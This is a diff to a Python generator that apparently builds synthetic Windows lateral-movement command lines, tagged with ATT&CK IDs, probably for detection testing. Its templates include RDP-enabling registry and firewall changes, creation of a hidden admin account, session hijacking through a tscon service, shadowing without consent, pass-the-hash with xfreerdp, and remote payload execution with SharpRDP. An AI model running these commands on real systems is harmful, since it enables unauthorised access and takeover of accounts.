@@ -8,20 +8,14 @@ from generator.families.windows.commands_told import STRANGE, told
 told("lateral-remote-desktop-forced", lateral("T1021.001", "T1112"), r"""
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
 reg add "\\@ip@\HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
-reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fSingleSessionPerUser /t REG_DWORD /d 0 /f
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f
-reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v PortNumber /t REG_DWORD /d @port@ /f
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f
-reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" /v Shadow /t REG_DWORD /d 2 /f
 netsh advfirewall firewall add rule name="@word@" dir=in protocol=tcp localport=3389 action=allow
 netsh firewall set service type=remotedesktop mode=enable profile=all
 powershell -w hidden -c "Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server' fDenyTSConnections 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'"
 cmd /c net user @word@ @pw@ /add & net localgroup "Remote Desktop Users" @word@ /add & net localgroup administrators @word@ /add
-tscon @n@ /dest:rdp-tcp#@n@
-cmd.exe /k tscon 1 /dest:console
 sc create sesshijack binpath= "cmd.exe /k tscon @n@ /dest:rdp-tcp#@n@" & net start sesshijack
 mstsc.exe /v:@host@ /shadow:@n@ /noConsentPrompt /control
-mstsc /v:@ip@ /restrictedadmin
 cmdkey /generic:TERMSRV/@ip@ /user:@domain@\@user@ /pass:@pw@ & mstsc /v:@ip@
 cmdkey.exe /add:@host@ /user:@domain@\administrator /pass:@pw@ & start mstsc /v:@host@ /admin
 @tmp@SharpRDP.exe computername=@host@ command="C:\Windows\Temp\@word@.exe" username=@domain@\@user@ password=@pw@
@@ -31,8 +25,7 @@ cmdkey.exe /add:@host@ /user:@domain@\administrator /pass:@pw@ & start mstsc /v:
 @tmp@xfreerdp.exe /v:@ip@ /u:@user@ /pth:@hex@@hex@@hex@ /cert-ignore
 netsh interface portproxy add v4tov4 listenport=@port@ listenaddress=0.0.0.0 connectport=3389 connectaddress=@ip@
 wmic rdtoggle where ServerName="@me@" call SetAllowTSConnections 1
-qwinsta /server:@ip@ & rwinsta @n@ /server:@ip@
-""", parents=STRANGE + ("cmd.exe",), users=(None, "SYSTEM"), most=3, weight=1.2)
+""", parents=STRANGE, users=(None, "SYSTEM"), most=3, weight=1.2)
 
 told("lateral-secure-shells", lateral("T1021.004", "T1572"), r"""
 @tmp@plink.exe -ssh -l root -pw @pw@ @ip@ "esxcli vm process list"
